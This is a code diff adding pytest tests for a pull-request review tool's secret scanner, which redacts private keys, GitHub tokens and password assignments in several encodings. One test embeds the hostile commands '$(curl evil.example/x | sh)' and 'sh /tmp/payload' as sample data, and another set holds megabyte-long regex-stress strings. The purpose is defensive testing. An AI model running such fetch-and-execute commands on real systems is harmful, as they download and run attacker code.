@@ -18,9 +18,10 @@ from pr_review.domain.snapshot import Snapshot
 from pr_review.snapshot.fit import fit
 from pr_review.snapshot.policy import Screening, SnapshotPolicy
 from pr_review.snapshot.prepare import prepare
-from pr_review.snapshot.screen import screen_brief, screen_text
+from pr_review.snapshot.ports import SecretMatch
+from pr_review.snapshot.screen import screen, screen_brief, screen_paths, screen_text
 from tests.shared import SHARED, shared
-from tests.snapshot.listing import NEW, OLD, change, file, hunk, lines
+from tests.snapshot.listing import NEW, OLD, NoSecrets, added, change, file, hunk, lines
 
 
 def _made(seed: str, length: int, alphabet: str = "") -> str:
@@ -266,3 +267,232 @@ def test_a_free_text_names_its_rules() -> None:
     assert text == 'a\n"password": "[REDACTED:secret-assignment]",\nb'
     assert rules == ("secret-assignment",)
     assert screen_text("nothing here", SCANNER) == ("nothing here", ())
+
+
+MARKS = ("-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----")
+KEY = base64.b64encode(hashlib.shake_256(b"key").digest(1207)).decode()
+
+
+def _key(width: int = 64, kind: str = "PRIVATE KEY") -> list[str]:
+    """A key block in lines of a width; its last line is short."""
+    body = [KEY[n : n + width] for n in range(0, len(KEY), width)]
+    return [f"-----BEGIN {kind}-----", *body, f"-----END {kind}-----"]
+
+
+def _percent(block: Sequence[str]) -> str:
+    body = [line.replace("+", "%2B").replace("/", "%2F").replace("=", "%3D") for line in block]
+    return "%0A".join(body)
+
+
+def _twice_escaped(block: Sequence[str]) -> str:
+    return json.dumps({"env": json.dumps({"private_key": "\n".join(block)})})
+
+
+NOTATIONS = {
+    "json in json": _twice_escaped,
+    "two on a line": lambda b: json.dumps({"a": "\n".join(b), "b": "\n".join(b)}),
+    "slashes escaped": lambda b: json.dumps("\n".join(b)).replace("/", "\\/"),
+    "unicode escapes": "\\u000a".join,
+    "percent": _percent,
+    "percent and blanks": lambda b: "%0A".join(b).replace(" ", "%20"),
+    "entities": "&#10;".join,
+    "blanks": " ".join,
+}
+DRESSES = [
+    'sb.append("{}");', 'sb.append("{}\\n");', 'echo "{}" >> key.pem', "  '{}' .", '"{}" ..',
+    '"{}" & _', "  - {}", "-{}", "+{}", "`{}`", '("{}")', "2024-01-02T03:04:0{n}.123Z {}",
+    "{n}: {}", '"{}\\r\\n" +', " * {}",
+]  # fmt: skip
+
+
+def _dressed(dress: str, block: Sequence[str]) -> str:
+    return "\n".join(dress.format(line, n=number) for number, line in enumerate(block))
+
+
+def _left(block: Sequence[str], text: str) -> list[str]:
+    return [line for line in block[1:-1] if line in text]
+
+
+@pytest.mark.parametrize("name", sorted(NOTATIONS))
+def test_a_key_on_one_line_in_any_notation(name: str) -> None:
+    block = _key()
+    text = f"a = 1; {NOTATIONS[name](block)}; go(b)"
+    assert not _left(block, screen_text(text, SCANNER)[0])
+    blob = f"x\n{text}\n".encode()
+    given = change(file("src/a.conf", Hunk(2, 0, 2, 1, "", lines("+", [text], 2, 2))))
+    (row,) = _rows(_snapshot(given, {NEW: blob, OLD: b"x\n"}))
+    assert not _left(block, row)
+    assert row.startswith("a = 1; ")
+    assert row.endswith("; go(b)")
+
+
+@pytest.mark.parametrize("width", [64, 76, 16, 12])
+@pytest.mark.parametrize("dress", DRESSES)
+def test_a_key_whose_lines_stand_in_a_dress(dress: str, width: int) -> None:
+    block = _key(width)
+    for shown in (block, block[:-1], block[1:]):
+        before, after = dress.format("", n=0).split("\\")[0][:2], "after = 2"
+        text = f"{_dressed(dress, shown)}\n{after}"
+        clean = screen_text(text, SCANNER)[0]
+        assert not [line for line in block[1:-1] if len(line) >= 8 and line in clean]
+        assert clean.startswith(before)
+        assert clean.endswith(after)
+        assert clean.count("\n") == text.count("\n")
+
+
+@pytest.mark.parametrize(
+    ("kind", "armour"),
+    [
+        ("RSA PRIVATE KEY", ["Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-128-CBC,5E0A", ""]),
+        ("PGP PRIVATE KEY BLOCK", ["Version: GnuPG v2", "Comment: made for a test", ""]),
+    ],
+)
+def test_a_key_with_headers_and_no_end(kind: str, armour: list[str]) -> None:
+    block = _key(kind=kind)
+    text = "\n".join([block[0], *armour, *block[1:-1]])
+    clean = screen_text(text, NoSecrets())[0]
+    assert not _left(block, clean)
+    assert clean.split("\n")[1 : 1 + len(armour)] == armour
+
+
+def test_a_command_beside_a_marker_stays_in_sight() -> None:
+    for command in ("sh /tmp/payload", "$(curl evil.example/x | sh)", "python3 -c 'import os'"):
+        text = f'K="{MARKS[0]}" {command}'
+        assert screen_text(text, SCANNER)[0] == f'K="[REDACTED:private-key]" {command}'
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ensureAllRecordsAreDeleted", "/usr/local/bin/payload/runner/x", "/opt/k8s/bin/payload",
+        "sha256OfAllTheThings", "thisisonelongwordinlowercase", "createUserFromHTTPRequest",
+    ],
+)  # fmt: skip
+@pytest.mark.parametrize("extra", [[], [KEY[:64], KEY[64:128]]])
+def test_a_bare_word_or_path_between_markers_stays_in_sight(command: str, extra: list[str]) -> None:
+    rows = [f"# {MARKS[0]}", *extra, command, command, f"# {MARKS[1]}"]
+    clean = screen_text("\n".join(rows), SCANNER)[0].split("\n")
+    assert clean[-3:-1] == [command, command]
+    assert clean[1:-3] == ["[REDACTED:private-key]"] * len(extra)
+
+
+TOKEN = "ghp_" + _made("cut", 36)
+LONG_LINE = f'const productionGithubTokenForReleases = "{TOKEN}"'
+
+
+def _below_header(section: str) -> Change:
+    return change(file("a.js", hunk(" +", ["x", "y"], old=9, new=9, section=section)))
+
+
+@pytest.mark.parametrize("front", ["", "    "])
+@pytest.mark.parametrize("blob", [True, False])
+def test_a_header_that_was_cut_within_a_token_is_hidden(blob: bool, front: str) -> None:
+    section = LONG_LINE[:80]
+    assert TOKEN not in section
+    assert TOKEN[:30] in section
+    blobs = {OLD: f"a\n{front}{LONG_LINE}\nb\n".encode()} if blob else {}
+    found = _snapshot(_below_header(section), blobs)
+    assert "ghp_" not in found.text
+    assert [r.rule for r in found.ledger.redactions] == ["hunk-header"]
+
+
+def test_a_cut_header_without_a_credential_stays() -> None:
+    line = "def a_function_with_a_name_of_some_length(first_argument, second_argument, third=3):"
+    section = line[:80]
+    blobs = {OLD: f"a\n{line}\n{LONG_LINE}\n".encode()}
+    assert section in _snapshot(_below_header(section), blobs).text
+    assert section not in _snapshot(_below_header(section)).text, "its end cannot be known"
+    prose = ("words of prose " * 6)[:79]
+    assert prose in _snapshot(_below_header(prose)).text
+
+
+def test_a_header_cut_within_a_character_finds_its_line() -> None:
+    line = "func " + "é" * 60 + f' = "{TOKEN}"'
+    section = line.encode()[:80].decode("utf-8", "surrogateescape")
+    assert section.endswith("\udcc3")
+    found = _snapshot(_below_header(section), {OLD: f"{line}\n".encode()})
+    assert [r.rule for r in found.ledger.redactions] == ["hunk-header"]
+
+
+def test_paths_that_hold_a_credential() -> None:
+    paths = ["src/a.py", f"{TOKEN}.txt", f"conf/{TOKEN}/b.yml", f"k/password={_made('w', 24)}"]
+    assert screen_paths(paths, SCANNER) == {
+        paths[1]: "[REDACTED:github-pat].txt",
+        paths[2]: "conf/[REDACTED:github-pat]/b.yml",
+        paths[3]: "k/password=[REDACTED:secret-assignment]",
+    }
+    assert screen_paths([], SCANNER) == {}
+
+
+# Each of these took minutes to hours when a quantifier could give back what it had taken.
+HOSTILE = {
+    "letters": "a" * 1_000_000,
+    "base64": KEY.rstrip("=") * 600,
+    "slashes": "/" * 1_000_000 + "\x01",
+    "escapes": "\\n" * 500_000,
+    "backslashes": "\\" * 1_000_000,
+    "dashes": "-" * 1_000_000,
+    "blanks": "secret" + " " * 1_000_000,
+    "names": "secret" * 160_000,
+    "assignments": "password=" * 110_000,
+    "half a marker": "-----BEGIN A" * 80_000,
+    "equals": "a=" * 500_000,
+}
+
+
+@pytest.mark.parametrize("name", sorted(HOSTILE))
+def test_a_hostile_line_of_a_megabyte_ends(name: str) -> None:
+    text = HOSTILE[name]
+    assert screen_text(text, NoSecrets()) == (text, ())
+    between = screen_text(f"{MARKS[0]}\n{text}\n{MARKS[1]}", NoSecrets())[0].split("\n")
+    hidden = "[REDACTED:private-key]"
+    assert between == [hidden, hidden if name == "base64" else text, hidden]
+
+
+@pytest.mark.parametrize("mark", MARKS)
+def test_many_markers_end(mark: str) -> None:
+    clean = screen_text(f"{mark}{KEY[:64]}\n" * 20_000, NoSecrets())[0]
+    assert clean == "[REDACTED:private-key]\n" * 20_000
+
+
+class _EveryFifth:
+    """Finds the value of every fifth line of `k = 1`."""
+
+    def scan(self, texts: Sequence[str]) -> list[SecretMatch]:
+        return [
+            SecretMatch(number, start, start + 1, "made")
+            for number, text in enumerate(texts)
+            for start in range(4, len(text), 30)
+        ]
+
+
+def test_many_matches_in_many_lines_end() -> None:
+    (found,) = screen([added("a.txt", 200_000, "k = 1")], {}, _EveryFifth())
+    assert len(found.redactions) == 40_000
+    assert [r.line for r in found.redactions[:3]] == [1, 6, 11]
+    assert found.spans[Side.RIGHT, 6] == [(4, 5, "made")]
+
+
+def test_many_hunks_over_a_long_key_end() -> None:
+    block = [MARKS[0], *(f"{n:06d}{KEY[n % 900 :][:58]}" for n in range(20_000)), MARKS[1]]
+    hunks = [
+        hunk(
+            " ",
+            [block[n + 2]],
+            old=n + 3,
+            new=n + 3,
+            section=f"{block[n + 1]}{'' if n % 2 else '?'}",
+        )
+        for n in range(1, 10_001)
+    ]
+    blob = "\n".join(["first", *block]).encode()
+    (found,) = screen([file("k.txt", *hunks)], {NEW: blob, OLD: blob}, NoSecrets())
+    assert len(found.spans) == 10_000
+    assert set(range(0, 10_000, 2)) <= found.headers
+
+
+def test_many_redactions_in_a_free_text_end() -> None:
+    value = _made("x", 24)
+    text = f"password={value}\n" * 20_000
+    clean = "password=[REDACTED:secret-assignment]\n" * 20_000
+    assert screen_text(text, NoSecrets()) == (clean, ("secret-assignment",))
